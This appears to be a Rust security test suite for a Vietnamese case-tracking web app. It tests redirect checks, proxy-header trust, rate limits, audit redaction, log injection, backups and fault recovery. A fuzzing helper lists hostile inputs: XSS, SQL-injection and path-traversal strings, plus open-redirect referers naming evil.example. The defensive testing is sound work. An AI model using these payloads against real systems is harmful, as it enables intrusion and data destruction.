    // The language switch goes back to its referrer only if that is a path of this site.
    let v = common::visitor::Visitor::new(&app);
    for referer in
        ["http://127.0.0.1//evil.example", "http://127.0.0.1/%5Cevil.example", "http://127.0.0.1/%2F/evil.example"]
    {
        let r = v.post_with("/language", &[("lang", "en")], &[("referer", referer)]).await;
        assert_eq!(r.location().as_deref(), Some("/"), "{referer}");
    }
    let v = common::visitor::Visitor::new(&app);
    let csrf = v.get("/sign-in").await.csrf();
    let r = v
        .post(
            "/sign-in",
            &[("_csrf", &csrf), ("next", "/cases?status=open"), ("username", "can.bo"), ("password", common::PASSWORD)],
        )
        .await;
    assert_eq!(r.location().as_deref(), Some("/cases?status=open"), "a path of this site is kept");
}

/// Signs the administrator in with `headers`; the address the audit log recorded for it.
async fn address_recorded(app: &TestApp, headers: &[(&str, &str)]) -> String {
    let body = json!({"username": "quantri", "password": common::PASSWORD});
    let token = app.call(Method::POST, "/api/v1/auth/login", None, Some(body), headers).await.expect(200);
    let token = token.body["access_token"].as_str().unwrap().to_string();
    let r = app.get("/api/v1/audit?entity_type=session&limit=1", &token).await.expect(200);
    r.body["items"][0]["client_addr"].as_str().unwrap().to_string()
}

#[tokio::test]
async fn only_a_trusted_proxy_says_who_the_client_is() {
    let forged = [("x-forwarded-for", "6.6.6.6"), ("forwarded", "for=7.7.7.7")];
    // No trusted proxy (the default): the headers are the client's own words, ignored.
    let app = spawn().await;
    app.user("quantri", Role::Admin, None);
    assert_eq!(address_recorded(&app, &forged).await, "127.0.0.1");
    // …so a client cannot spread its guesses over made-up addresses.
    for i in 0..25 {
        let (xff, body) = (format!("10.0.0.{i}"), json!({"username": format!("ai-{i}"), "password": "x"}));
        let r = app.call(Method::POST, "/api/v1/auth/login", None, Some(body), &[("x-forwarded-for", &xff)]).await;
        assert_eq!(r.status.as_u16(), if i < 20 { 401 } else { 429 }, "attempt {i}");
    }

    // Behind a trusted proxy: the right-most address it did not add itself; `Forwarded`,
    // which that proxy does not set, is ignored.
    let app = spawn_with(|s| s.server.trusted_proxies = vec!["127.0.0.1".into(), "10.0.0.0/8".into()]).await;
    app.user("quantri", Role::Admin, None);
    let through = [("x-forwarded-for", "6.6.6.6, 203.0.113.7, 10.1.1.1"), ("forwarded", "for=7.7.7.7")];
    assert_eq!(address_recorded(&app, &through).await, "203.0.113.7");

    // The older switch alone trusts a proxy on this machine only.
    let app = spawn_with(|s| s.server.trust_forwarded_for = true).await;
    app.user("quantri", Role::Admin, None);
    assert_eq!(address_recorded(&app, &forged).await, "6.6.6.6");
}

#[tokio::test]
async fn metrics_are_not_public_and_a_client_cannot_add_series() {
    let app = spawn_with(|s| s.server.metrics_bind = Some("127.0.0.1:0".into())).await;
    // Not on the public listener without a token…
    app.call(Method::GET, "/metrics", None, None, &[]).await.expect(404);
    // …but on the loopback one.
    let scrape = || async {
        let url = format!("http://127.0.0.1:{}/metrics", app.metrics_port.expect("a metrics listener"));
        let r = reqwest::get(url).await.unwrap();
        assert_eq!(r.status(), 200);
        r.text().await.unwrap()
    };
    for i in 0..50 {
        let method = Method::from_bytes(format!("MADEUP{i}").as_bytes()).unwrap();
        app.http.request(method, format!("{}/api/v1/cases", app.base)).send().await.unwrap();
    }
    let text = scrape().await;
    assert!(!text.contains("MADEUP"), "no label value a client chose");
    // (The registry is the process's, shared with tests running beside this one: every
    // method label is one of the fixed set, whoever counted it.)
    let fixed = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "other"];
    for label in text.split("method=\"").skip(1) {
        let value = label.split('"').next().unwrap();
        assert!(fixed.contains(&value), "method label {value:?}");
    }
    assert!(text.contains("method=\"other\""));
    assert!(text.contains("casetrack_faults_total{kind=\"storage_full\"} 0"), "faults are counted from the start");
}

#[tokio::test]
async fn a_signed_in_session_cannot_guess_the_account_password() {
    let app = spawn().await;
    let me = app.signed_in("can.bo", Role::Inspector, None).await;
    let change = |current: &'static str| {
        app.post(
            "/api/v1/me/password",
            Some(&me.token),
            json!({"current_password": current, "new_password": "một mật khẩu mới dài"}),
        )
    };
    for _ in 0..5 {
        assert_eq!(change("doan-thu").await.expect(422).error_fields(), vec!["current_password"]);
    }
    let r = change("doan-nua").await.expect(429);
    assert!(r.header("retry-after").is_some());
    // The right one now waits too, and so does signing in to that account.
    change(common::PASSWORD).await.expect(429);
    app.login("can.bo", common::PASSWORD).await.expect(429);
    // A burst in parallel gets no more checks than the limit allows.
    let other = app.signed_in("can.bo2", Role::Inspector, None).await;
    let burst = (0..20).map(|_| {
        app.post(
            "/api/v1/me/password",
            Some(&other.token),
            json!({"current_password": "sai", "new_password": "một mật khẩu mới dài"}),
        )
    });
    let replies = join_all(burst).await;
    assert_eq!(replies.iter().filter(|r| r.status == 422).count(), 5, "{:?}", sorted_statuses(&replies));
}

#[tokio::test]
async fn a_concluded_case_takes_comments_but_no_more_evidence() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let upload = |case: &Value, who: &Login| {
        let part = reqwest::multipart::Part::bytes(b"%PDF-1.4\n%%EOF\n".to_vec())
            .file_name("bien-ban.pdf")
            .mime_str("application/pdf")
            .unwrap();
        app.http
            .post(format!("{}/api/v1/cases/{}/attachments", app.base, case["id"].as_str().unwrap()))
            .bearer_auth(&who.token)
            .multipart(reqwest::multipart::Form::new().part("file", part))
            .send()
    };
    for status in ["closed", "dismissed"] {
        let case = w.case_in(&app, status).await;
        let before = app.audit_count();
        for who in [&w.ba_dinh_head, &w.city_reviewer] {
            let r = upload(&case, who).await.unwrap();
            assert_eq!(r.status(), 409, "{status}: {}", r.text().await.unwrap());
        }
        assert_eq!(app.audit_count(), before, "nothing written");
        let path = format!("/api/v1/cases/{}/comments", case["id"].as_str().unwrap());
        app.post(&path, Some(&w.city_reviewer.token), json!({"body": "Đã giao quyết định cho đương sự."}))
            .await
            .expect(201);
    }
    let live = w.case_in(&app, "in_handling").await;
    assert_eq!(upload(&live, &w.ba_dinh_head).await.unwrap().status(), 201);
}

#[tokio::test]
async fn administrators_read_who_did_what_but_not_what_a_case_says() {
    let (app, w, case) = case_of_ba_dinh_in_handling("Chậm giải ngân của ông Trần Bí Mật").await;
    let comment = format!("/api/v1/cases/{}/comments", case["id"].as_str().unwrap());
    app.post(&comment, Some(&w.city_reviewer.token), json!({"body": "Ghi chú riêng tư về Trần Bí Mật"}))
        .await
        .expect(201);
    app.clock.set(Utc.with_ymd_and_hms(2024, 11, 2, 0, 0, 0).unwrap());
    app.run_jobs().await;
    let admin = token(&app, "quantri").await;

    let audit = app
        .get(&format!("/api/v1/audit?entity_type=case&entity_id={}", case["id"].as_str().unwrap()), &admin)
        .await
        .expect(200);
    let text = audit.body.to_string();
    for secret in ["Trần Bí Mật", "Nguyễn Văn Bình", "Phó trưởng phòng", "Ghi chú xử lý", "giải ngân"]
    {
        assert!(!text.contains(secret), "{secret} shown to an administrator: {text}");
    }
    let created = audit.body["items"].as_array().unwrap().iter().find(|e| e["action"] == "create").unwrap();
    assert_eq!(created["after"]["status"], "open", "what happened is still there");
    assert!(created["after"]["number"].is_string());
    let withheld: Vec<&str> = created["withheld"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    for key in ["title", "description", "person_name", "person_position"] {
        assert!(withheld.contains(&key), "{key} is named as withheld: {withheld:?}");
    }
    // Its console page and the outbox say no more.
    let v = common::visitor::Visitor::signed_in(&app, "quantri").await;
    let page = v.get(&format!("/admin/audit?entity_type=case&entity_id={}", case["id"].as_str().unwrap())).await;
    page.expect(200);
    assert!(!page.text().contains("Bí Mật") && !page.text().contains("Bình"), "{}", page.html);
    // What is withheld is named in the reader's words, not by the stored keys.
    for words in ["tiêu đề", "nội dung", "họ và tên", "chức vụ", "ý kiến trao đổi"] {
        assert!(page.text().contains(words), "{words}: {}", page.html);
    }
    for key in ["person_name", "person_position", "description"] {
        assert!(!page.text().contains(key), "{key}: {}", page.html);
    }
    let outbox = app.get("/api/v1/admin/outbox", &admin).await.expect(200);
    assert!(!outbox.body["items"].as_array().unwrap().is_empty(), "an alert was sent");
    assert!(!outbox.body.to_string().contains("Bí Mật"), "{}", outbox.body);
    assert!(!v.get("/admin/outbox").await.text().contains("Bí Mật"));
}

#[tokio::test]
async fn the_api_page_is_protected_like_the_console_and_keeps_no_token() {
    let app = spawn().await;
    for path in ["/docs", "/docs/init.js", "/docs/swagger-ui-bundle.js"] {
        let r = app.call(Method::GET, path, None, None, &[]).await.expect(200);
        let csp = r.header("content-security-policy").unwrap_or_default();
        assert!(csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(!csp.contains("script-src") || !csp.contains("unsafe"), "scripts stay this server's own: {csp}");
        assert_eq!(r.header("x-frame-options").as_deref(), Some("DENY"), "{path}");
        assert_eq!(r.header("x-content-type-options").as_deref(), Some("nosniff"), "{path}");
    }
    let init = app.http.get(format!("{}/docs/init.js", app.base)).send().await.unwrap().text().await.unwrap();
    assert!(init.contains("persistAuthorization: false"), "{init}");
}

#[test]
fn backups_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    // A SQLite installation of its own, whatever the suite's database (the command copies SQLite).
    let db = common::TestDb::Sqlite { dir: tempfile::tempdir().unwrap() };
    let work = tempfile::tempdir().unwrap();
    let bin = env!("CARGO_BIN_EXE_casetrack");
    let run = |args: &str| {
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("umask 022 && exec \"$0\" {args}"))
            .arg(bin)
            .current_dir(work.path())
            .env("DATABASE_URL", db.url())
            .env("RUST_LOG", "warn")
            .env_remove("CASETRACK_PROFILE")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    };
    run("migrate");
    run("backup sao-luu");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = work.path().join("sao-luu");
    assert_eq!(mode(&dir), 0o700);
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
    }
    assert!(dir.join("casetrack.db").exists() && dir.join("backup.json").exists());
}

#[test]
fn logs_carry_no_personal_data_no_forged_lines_and_no_colour_codes() {
    use std::io::{BufRead, BufReader};
    let db = common::TestDb::new();
    let dir = tempfile::tempdir().unwrap();
    let port = common::process::free_port();
    let mut serve = common::binary::casetrack(&db, dir.path());
    serve
        .arg("serve")
        .env("CASETRACK__SERVER__BIND", format!("127.0.0.1:{port}"))
        .env("RUST_LOG", "info")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = common::process::KillOnDrop(serve.spawn().unwrap());
    let mut stdout = BufReader::new(child.0.stdout.take().unwrap()).lines();
    let file = loop {
        let line = stdout.next().expect("the first administrator is announced").unwrap();
        if let Some(path) = line.trim().strip_prefix("password file: ") {
            break dir.path().join(path);
        }
    };
    let password = std::fs::read_to_string(file).unwrap().trim().to_string();
    let typed_in_the_wrong_field = "Mật-khẩu-gõ-nhầm-ô\nFORGED access line";
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        common::process::wait_ready(port).await;
        let http = reqwest::Client::new();
        let base = format!("http://127.0.0.1:{port}");
        let login = |u: &str, p: &str| {
            http.post(format!("{base}/api/v1/auth/login")).json(&json!({"username": u, "password": p})).send()
        };
        assert_eq!(login(typed_in_the_wrong_field, "x").await.unwrap().status(), 401);
        let token: Value = login("admin", &password).await.unwrap().json().await.unwrap();
        let token = token["access_token"].as_str().unwrap();
        let r = http
            .get(format!("{base}/api/v1/users?q=Nguyễn%20Thị%20Riêng%20Tư&role=inspector"))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        assert!(r.status().as_u16() < 500);
    });
    std::process::Command::new("kill").args(["-TERM", &child.0.id().to_string()]).status().unwrap();
    let mut logged = String::new();
    std::io::Read::read_to_string(&mut child.0.stderr.take().unwrap(), &mut logged).unwrap();
    assert!(child.0.wait().unwrap().success());
    assert!(!logged.contains('\u{1b}'), "no terminal colour codes in a file: {logged:?}");
    assert!(!logged.contains("Riêng") && !logged.contains("Ri%C3%AAng"), "no query values: {logged}");
    assert!(!logged.contains("Mật-khẩu-gõ-nhầm"), "a name that is no account is never logged: {logged}");
    assert!(logged.lines().all(|l| !l.starts_with("FORGED")), "no forged line: {logged}");
    assert!(!logged.contains(&password));
    let access = logged.lines().find(|l| l.contains("/api/v1/users") && l.contains("access")).expect("an access line");
    assert!(access.contains("params=q,role") || access.contains("params=\"q,role\""), "parameter names only: {access}");
    assert!(access.contains("client=127.0.0.1") || access.contains("client=\"127.0.0.1\""), "{access}");
    assert!(access.len() < 400, "a short line: {} bytes", access.len());
}

/// What a refused console form must leave as it was: the audit log and the main tables.
fn footprint(app: &TestApp) -> [i64; 4] {
    use casetrack::db::schema::case_attachments as attachments;
    app.with_conn(|c| {
        Ok::<_, diesel::result::Error>([
            audit_log::table.count().get_result(c)?,
            cases::table.count().get_result(c)?,
            users::table.count().get_result(c)?,
            attachments::table.count().get_result::<i64>(c)? + units::table.count().get_result::<i64>(c)?,
        ])
    })
    .unwrap()
}

/// Values no form should ever answer with a 500: lengths, control characters, markup,
/// other records' ids, numbers and dates out of any range, text where an id or a number
/// belongs.
fn hostile_values(other_id: &str) -> Vec<String> {
    let mut v: Vec<String> = [
        "",
        " ",
        "\u{0}",
        "\u{1}\u{7}\r\n\t",
        "<script>alert(1)</script>",
        "'; DROP TABLE cases; --",
        "-1",
        "99999999999999999999999",
        "2024-13-45",
        "0000-00-00",
        "abc",
        "\u{202e}ngược",
        "../../etc/passwd",
        "01900000-0000-7000-8000-000000000000",
    ]
    .map(String::from)
    .to_vec();
    v.push(other_id.to_string());
    v.push("ẫ".repeat(6_000));
    // Some random bytes from a fixed seed, so a failure can be replayed.
    let mut seed: u64 = 0x2024_0925;
    for _ in 0..3 {
        let s: String = (0..24)
            .map(|_| {
                seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                char::from_u32(((seed >> 33) % 0x2FF) as u32 + 1).unwrap_or('?')
            })
            .collect();
        v.push(s);
    }
    v
}

/// Posts `form` to `path` with every field in turn replaced by every hostile value (and
/// left out), then without and with a wrong CSRF token: never a 500, and a refusal (any
/// 4xx) changes nothing. Returns how many requests were sent.
async fn fuzz_form(
    app: &TestApp,
    v: &common::visitor::Visitor,
    path: &str,
    form: &[(&str, String)],
    multipart: bool,
    other_id: &str,
) -> usize {
    let csrf = if path == "/sign-in" { v.get("/sign-in").await.csrf() } else { v.csrf().await };
    let send = |fields: Vec<(String, String)>| async move {
        if multipart {
            let mut m = reqwest::multipart::Form::new();
            for (k, val) in fields {
                m = m.text(k, val);
            }
            let part = reqwest::multipart::Part::bytes(b"%PDF-1.4\n%%EOF\n".to_vec())
                .file_name("a.pdf")
                .mime_str("application/pdf")
                .unwrap();
            v.post_multipart(path, m.part("file", part)).await
        } else {
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, val)| (k.as_str(), val.as_str())).collect();
            v.post(path, &pairs).await
        }
    };
    let with = |field: Option<&str>, value: Option<&str>, token: Option<&str>| {
        let mut fields: Vec<(String, String)> =
            token.map(|t| vec![("_csrf".to_string(), t.to_string())]).unwrap_or_default();
        for (k, val) in form {
            if Some(*k) == field {
                if let Some(value) = value {
                    fields.push((k.to_string(), value.to_string()));
                }
            } else {
                fields.push((k.to_string(), val.clone()));
            }
        }
        fields
    };
    let mut sent = 0;
    let mut check = |status: u16, before: [i64; 4], after: [i64; 4], what: String| {
        sent += 1;
        assert!(status < 500, "{path} {what}: {status}");
        if status >= 400 {
            assert_eq!(before, after, "{path} {what}: refused ({status}) but something changed");
        }
    };
    for (field, _) in form {
        let values = hostile_values(other_id);
        for value in values.iter().map(|s| Some(s.as_str())).chain([None]) {
            let before = footprint(app);
            let page = send(with(Some(field), value, Some(&csrf))).await;
            let shown: String = value.map(|s| s.chars().take(20).collect()).unwrap_or_else(|| "(left out)".into());
            check(page.status.as_u16(), before, footprint(app), format!("{field}={shown:?}"));
        }
    }
    for token in [None, Some("not-the-token")] {
        let before = footprint(app);
        let page = send(with(None, None, token)).await;
        assert_eq!(page.status.as_u16(), 403, "{path} with CSRF {token:?}");
        check(403, before, footprint(app), format!("csrf {token:?}"));
    }
    sent
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_console_form_refuses_hostile_values_without_a_500_or_a_change() {
    use common::visitor::Visitor;
    let app = spawn().await;
    let w = World::new(&app).await;
    let other = w.cau_giay.id.clone();
    let inspector = Visitor::signed_in(&app, "thanhtra1").await;
    let reviewer = Visitor::signed_in(&app, "ubkt.thanhpho").await;
    let admin = Visitor::signed_in(&app, "quantri").await;
    let open = w.log_case(&app, &w.dien_bien, "Vụ việc để thử biểu mẫu").await;
    let handling = w.case_in(&app, "in_handling").await;
    let (open_id, handling_id) =
        (open["id"].as_str().unwrap().to_string(), handling["id"].as_str().unwrap().to_string());
    let target = app.user("bi.sua", Role::Inspector, Some(&w.city));
    let s = String::from;
    let case_fields = vec![
        ("campaign_id", w.campaign.id.clone()),
        ("subject_kind", s("individual")),
        ("subject_unit_id", w.dien_bien.id.clone()),
        ("person_name", s("Lê Văn Thử")),
        ("person_position", s("Chuyên viên")),
        ("indicator_ids", w.indicator("2.5").id.clone()),
        ("title", s("Thử biểu mẫu")),
        ("description", s("Mô tả vụ việc thử.")),
        ("detected_on", s("2024-09-20")),
        ("severity", s("medium")),
    ];
    let mut edit_fields = case_fields[1..].to_vec();
    edit_fields.push(("version", s("1")));
    let mut n = 0;
    n += fuzz_form(&app, &inspector, "/cases/new", &case_fields, true, &other).await;
    n += fuzz_form(&app, &inspector, &format!("/cases/{open_id}/edit"), &edit_fields, false, &other).await;
    n += fuzz_form(&app, &inspector, &format!("/cases/{open_id}/comments"), &[("body", s("Ý kiến."))], false, &other)
        .await;
    n += fuzz_form(&app, &inspector, &format!("/cases/{open_id}/evidence"), &[("note", s("tệp"))], true, &other).await;
    let transition = vec![
        ("action", s("report_remediation")),
        ("version", s("2")),
        ("note", s("Đã khắc phục.")),
        ("responsible_unit_id", w.ba_dinh.id.clone()),
        ("due_at", s("2024-10-31")),
        ("due_in_working_days", s("")),
        ("measure", s("reprimand")),
        ("decided_on", s("2024-09-25")),
        ("reference", s("12-QĐ/UBKT")),
    ];
    n += fuzz_form(&app, &reviewer, &format!("/cases/{handling_id}/transition"), &transition, false, &other).await;
    let bulk =
        vec![("case_ids", open_id.clone()), ("responsible_unit_id", w.ba_dinh.id.clone()), ("due_at", s("2024-10-31"))];
    n += fuzz_form(&app, &reviewer, "/cases/bulk-accept", &bulk, false, &other).await;
    let password = vec![("current_password", s("không phải mật khẩu")), ("new_password", s("một mật khẩu mới dài"))];
    n += fuzz_form(&app, &reviewer, "/account/password", &password, false, &other).await;
    n +=
        fuzz_form(&app, &reviewer, "/account/digest", &[("mode", s("daily")), ("at", s("07:30"))], false, &other).await;
    n += fuzz_form(
        &app,
        &reviewer,
        &format!("/notifications/{other}/read"),
        &[("case_id", open_id.clone())],
        false,
        &other,
    )
    .await;
    let new_user = vec![
        ("username", s("moi.tao")),
        ("full_name", s("Người Mới")),
        ("email", s("moi@example.vn")),
        ("role", s("inspector")),
        ("unit_id", w.city.id.clone()),
    ];
    n += fuzz_form(&app, &admin, "/admin/users", &new_user, false, &other).await;
    let user = vec![
        ("version", s("1")),
        ("full_name", s("Người Bị Sửa")),
        ("email", s("sua@example.vn")),
        ("role", s("inspector")),
        ("unit_id", w.city.id.clone()),
        ("active", s("on")),
    ];
    n += fuzz_form(&app, &admin, &format!("/admin/users/{}", target.id), &user, false, &other).await;
    let unit = vec![
        ("code", s("MOI")),
        ("name", s("Đơn vị mới")),
        ("kind", s("other")),
        ("parent_id", w.city.id.clone()),
        ("email", s("dv@example.vn")),
    ];
    n += fuzz_form(&app, &admin, "/admin/units", &unit, false, &other).await;
    let mut change = unit.clone();
    change.push(("version", s("1")));
    change.push(("head_user_id", s("")));
    n += fuzz_form(&app, &admin, &format!("/admin/units/{}", w.dien_bien.id), &change, false, &other).await;
    n += fuzz_form(&app, &admin, &format!("/admin/outbox/{other}/retry"), &[("x", s("y"))], false, &other).await;
    n += fuzz_form(&app, &admin, "/admin/catalog", &[("x", s("y"))], true, &other).await;
    // Sign-in and the language switch, before any session.
    let stranger = Visitor::new(&app);
    let sign_in = vec![("username", s("thanhtra1")), ("password", s("sai")), ("next", s("/cases"))];
    n += fuzz_form(&app, &stranger, "/sign-in", &sign_in, false, &other).await;
    assert!(n > 1_000, "{n} requests");
}

// 9. Faults: a full disk and a lost database (root only: they mount a small tmpfs, or
// cut the test database's connections; `.ci/run` runs them on both databases).

/// A tmpfs of `mb` MiB mounted on a temporary folder, unmounted when dropped.
struct SmallDisk {
    dir: tempfile::TempDir,
}

impl SmallDisk {
    fn mount(mb: u32) -> SmallDisk {
        let dir = tempfile::tempdir().unwrap();
        let ok = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={mb}m,mode=0755"), "tmpfs"])
            .arg(dir.path())
            .status()
            .unwrap()
            .success();
        assert!(ok, "mounting a tmpfs needs root (run by .ci/run)");
        SmallDisk { dir }
    }

    fn path(&self) -> &std::path::Path {
        self.dir.path()
    }

    /// Fills what is left of the disk with one file; returns its path.
    fn fill(&self, name: &str) -> std::path::PathBuf {
        use std::io::Write;
        let path = self.path().join(name);
        let mut f = std::fs::File::create(&path).unwrap();
        let chunk = vec![0x5a_u8; 64 * 1024];
        while f.write_all(&chunk).is_ok() {}
        let mut byte = [0x5a_u8];
        while f.write_all(&byte).is_ok() {
            byte[0] ^= 1;
        }
        let _ = f.sync_all();
        path
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg("-l").arg(self.dir.path()).status();
    }
}

/// A PostgreSQL database kept in a tablespace on `disk`, dropped with the tablespace.
struct PgOnDisk {
    server: String,
    name: String,
}

impl PgOnDisk {
    fn create(disk: &SmallDisk) -> PgOnDisk {
        use diesel::connection::SimpleConnection;
        let server = std::env::var("TEST_DATABASE_URL").unwrap();
        let ts = disk.path().join("ts");
        std::fs::create_dir(&ts).unwrap();
        assert!(std::process::Command::new("chown").arg("postgres:postgres").arg(&ts).status().unwrap().success());
        let name = format!("casetrack_disk_{}_{}", std::process::id(), &casetrack::model::new_id()[24..]);
        let mut admin = diesel::PgConnection::establish(&server).unwrap();
        admin.batch_execute(&format!("CREATE TABLESPACE {name} LOCATION '{}'", ts.display())).unwrap();
        admin.batch_execute(&format!("CREATE DATABASE {name} TABLESPACE {name}")).unwrap();
        PgOnDisk { server, name }
    }

    fn url(&self) -> String {
        let mut u = url::Url::parse(&self.server).unwrap();
        u.set_path(&self.name);
        if !u.query_pairs().any(|(k, _)| k == "sslmode") {
            u.query_pairs_mut().append_pair("sslmode", "disable");
        }
        u.to_string()
    }
}

impl Drop for PgOnDisk {
    fn drop(&mut self) {
        use diesel::connection::SimpleConnection;
        if let Ok(mut admin) = diesel::PgConnection::establish(&self.server) {
            let _ = admin.batch_execute(&format!("DROP DATABASE IF EXISTS {} WITH (FORCE)", self.name));
            let _ = admin.batch_execute(&format!("DROP TABLESPACE IF EXISTS {}", self.name));
        }
    }
}

/// A case body whose description (about 8 KB) does not compress.
fn bulky_case(w: &World, n: usize) -> Value {
    let mut seed = n as u64 + 1;
    let words: String = (0..9_000)
        .map(|_| {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            (b'a' + ((seed >> 33) % 26) as u8) as char
        })
        .collect();
    let mut body = w.case_body(&w.dien_bien, &format!("Vụ việc lớn {n}"));
    body["description"] = json!(words);
    body
}

/// Waits (at most ten seconds) for `/readyz` to say ready again.
async fn ready_again(app: &TestApp) {
    for _ in 0..40 {
        if readyz(app).await.0 == 200 {
            return;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    panic!("not ready again: {:?}", readyz(app).await);
}

async fn readyz(app: &TestApp) -> (u16, Value) {
    let r = app.call(Method::GET, "/readyz", None, None, &[]).await;
    (r.status.as_u16(), r.body)
}

#[tokio::test]
#[ignore = "needs root to mount a small disk; .ci/run runs it on both databases"]
async fn a_full_disk_is_a_503_that_says_so_and_the_service_recovers_when_space_is_freed() {
    let disk = SmallDisk::mount(if std::env::var("TEST_DATABASE_URL").is_ok() { 48 } else { 12 });
    let (db, pg) = match std::env::var("TEST_DATABASE_URL") {
        Ok(_) => {
            let pg = PgOnDisk::create(&disk);
            (common::TestDb::Beside { url: pg.url(), backend: casetrack::db::Backend::Postgres }, Some(pg))
        }
        Err(_) => {
            let url = format!("sqlite://{}", disk.path().join("casetrack.db").display());
            (common::TestDb::Beside { url, backend: casetrack::db::Backend::Sqlite }, None)
        }
    };
    let app = common::spawn_on(db, |s| s.server.metrics_token = Some("metrics-token-0123456789".to_string().into()));
    let w = World::new(&app).await;
    let mut acked = vec![w.log_case(&app, &w.dien_bien, "Trước khi đầy").await];
    assert_eq!(readyz(&app).await.0, 200);

    let filler = disk.fill("filler");
    let mut full = None;
    for n in 0..400 {
        let r = app.post("/api/v1/cases", Some(&w.inspector.token), bulky_case(&w, n)).await;
        match r.status.as_u16() {
            201 => acked.push(r.body),
            _ => {
                full = Some(r);
                break;
            }
        }
    }
    let r = full.expect("the disk filled up").expect(503);
    assert!(r.body["type"].as_str().unwrap().ends_with(":storage-full"), "{}", r.body);
    assert_eq!(r.body["title"], "Hết dung lượng lưu trữ");
    assert!(r.header("retry-after").is_some());
    let (status, body) = readyz(&app).await;
    assert_eq!((status, body["status"].as_str()), (503, Some("storage full")), "{body}");
    let m = app.call(Method::GET, "/metrics", Some("metrics-token-0123456789"), None, &[]).await;
    let line = m
        .body
        .as_str()
        .unwrap()
        .lines()
        .find(|l| l.starts_with("casetrack_faults_total{kind=\"storage_full\"}"))
        .unwrap()
        .to_string();
    assert!(!line.ends_with(" 0"), "{line}");
    // Nothing acknowledged is lost, and reads go on.
    for case in &acked {
        app.get(&format!("/api/v1/cases/{}", case["id"].as_str().unwrap()), &w.inspector.token).await.expect(200);
    }

    // Space freed: the service is ready again and takes writes, without a restart.
    std::fs::remove_file(filler).unwrap();
    ready_again(&app).await;
    w.log_case(&app, &w.dien_bien, "Sau khi giải phóng").await;
    drop(app);
    drop(pg);
}

/// PostgreSQL: the database refuses connections and drops the ones it has, as in a
/// restart. An embedded SQLite file cannot be lost while the process holds it open; its
/// fault is the disk under it, filled here while a person works in the console. Either
/// way the API and the console say what happened with a 503, and the service carries on
/// by itself once the fault is gone.
#[tokio::test]
#[ignore = "needs root to mount a small disk; .ci/run runs it on both databases"]
async fn a_lost_database_is_a_503_and_the_service_comes_back_by_itself() {
    use diesel::connection::SimpleConnection;
    let pg = std::env::var("TEST_DATABASE_URL").is_ok();
    let disk = SmallDisk::mount(12);
    let db = if pg {
        common::TestDb::new()
    } else {
        let url = format!("sqlite://{}", disk.path().join("casetrack.db").display());
        common::TestDb::Beside { url, backend: casetrack::db::Backend::Sqlite }
    };
    let name = db.url().rsplit('/').next().unwrap().split('?').next().unwrap().to_string();
    let server = std::env::var("TEST_DATABASE_URL").unwrap_or_default();
    let app = common::spawn_on(db, |_| {});
    let w = World::new(&app).await;
    let before = w.log_case(&app, &w.dien_bien, "Trước sự cố").await;
    let reviewer = common::visitor::Visitor::signed_in(&app, "ubkt.thanhpho").await;
    let csrf = reviewer.csrf().await;

    let mut filler = None;
    if pg {
        let mut admin = diesel::PgConnection::establish(&server).unwrap();
        admin
            .batch_execute(&format!(
                "ALTER DATABASE {name} ALLOW_CONNECTIONS false; \
                 SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}';"
            ))
            .unwrap();
    } else {
        filler = Some(disk.fill("filler"));
        for n in 0..400 {
            if app.post("/api/v1/cases", Some(&w.inspector.token), bulky_case(&w, n)).await.status == 503 {
                break;
            }
        }
    }
    let (code, title) = if pg {
        (":unavailable", "Chưa kết nối được cơ sở dữ liệu")
    } else {
        (":storage-full", "Hết dung lượng lưu trữ")
    };
    let r = app.post("/api/v1/cases", Some(&w.inspector.token), bulky_case(&w, 1000)).await.expect(503);
    assert!(r.body["type"].as_str().unwrap().ends_with(code), "{}", r.body);
    assert_eq!(r.body["title"], title);
    assert!(r.header("retry-after").is_some());
    // The console says the same, on its own page.
    let page = reviewer.post("/account/digest", &[("_csrf", &csrf), ("mode", "daily"), ("at", "07:30")]).await;
    assert_eq!(page.status.as_u16(), 503, "{}", page.html);
    assert!(page.html.contains(title), "{}", page.html);
    assert!(page.header("retry-after").is_some());
    assert_eq!(readyz(&app).await.0, 503);

    if pg {
        let mut admin = diesel::PgConnection::establish(&server).unwrap();
        admin.batch_execute(&format!("ALTER DATABASE {name} ALLOW_CONNECTIONS true;")).unwrap();
    } else {
        std::fs::remove_file(filler.unwrap()).unwrap();
    }
    ready_again(&app).await;
    w.log_case(&app, &w.dien_bien, "Sau sự cố").await;
    app.get(&format!("/api/v1/cases/{}", before["id"].as_str().unwrap()), &w.inspector.token).await.expect(200);
    let page = reviewer.post("/account/digest", &[("_csrf", &csrf), ("mode", "daily"), ("at", "07:30")]).await;
    assert_eq!(page.status.as_u16(), 303, "{}", page.html);
}
